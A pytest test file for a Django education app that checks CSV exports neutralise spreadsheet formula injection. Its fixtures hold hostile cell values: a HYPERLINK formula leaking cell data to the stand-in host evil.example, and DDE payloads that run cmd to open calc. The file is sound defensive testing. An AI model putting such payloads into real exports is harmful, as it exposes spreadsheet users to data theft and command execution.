"""Every CSV the product writes goes through core.csv: a cell that a spreadsheet would read as
a formula (a student's name, a risk title, a retrospective) arrives as text."""

import csv
import io

import pytest
from django.urls import reverse

from core.csv import SafeCsvWriter, csv_safe
from reports.models import ReportRun
from reports.services import report_build, report_request
from tests.factories import RetrospectiveFactory, RiskEntryFactory

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_TITLE = "=1+cmd|' /C calc'!A0"
HOSTILE_RETRO = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        (None, ""),
        (85, "85"),
    ],
)
def test_csv_safe_neutralises_formulas_and_keeps_numbers(value, expected):
    assert csv_safe(value) == expected


def test_the_writer_neutralises_every_cell():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([["=a", "b"], ["c", "+d"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=a", "b"], ["c", "'+d"]]


def _rows(run: ReportRun) -> list[list[str]]:
    with run.file.open("rb") as f:
        return list(csv.reader(io.StringIO(f.read().decode("utf-8"))))


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


@pytest.fixture
def hostile(known):
    student = known.people.student
    student.name = HOSTILE_NAME
    student.save(update_fields=["name"])
    RiskEntryFactory(cohort=known.cohort, student=student, title=HOSTILE_TITLE)
    week3 = known.cohort.course.weeks.get(number=3)
    RetrospectiveFactory(cohort=known.cohort, student=student, week=week3, improve=HOSTILE_RETRO)
    return known


def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).isdigit()), cell


@pytest.mark.django_db
@pytest.mark.parametrize("kind", [ReportRun.Kind.COHORT, ReportRun.Kind.GRADEBOOK, ReportRun.Kind.STUDENT])
def test_report_csvs_never_start_a_cell_with_a_formula(hostile, kind):
    student = hostile.people.student if kind == ReportRun.Kind.STUDENT else None
    run = report_request(
        kind=kind,
        fmt=ReportRun.Format.CSV,
        cohort=hostile.cohort,
        student=student,
        by=hostile.people.instructor,
        enqueue_build=False,
    )
    cells = _cells(_rows(report_build(run=run)))
    _assert_no_formula(cells)
    if kind != ReportRun.Kind.STUDENT:
        assert "'" + HOSTILE_NAME in cells
    else:
        assert "'" + HOSTILE_TITLE in cells
        assert "'" + HOSTILE_RETRO in cells


@pytest.mark.django_db
def test_the_gradebook_page_csv_never_starts_a_cell_with_a_formula(hostile, client_for):
    response = client_for(hostile.people.instructor).get(reverse("reports:gradebook_csv", args=[hostile.cohort.slug]))
    cells = _cells(list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))))
    _assert_no_formula(cells)
    assert "'" + HOSTILE_NAME in cells
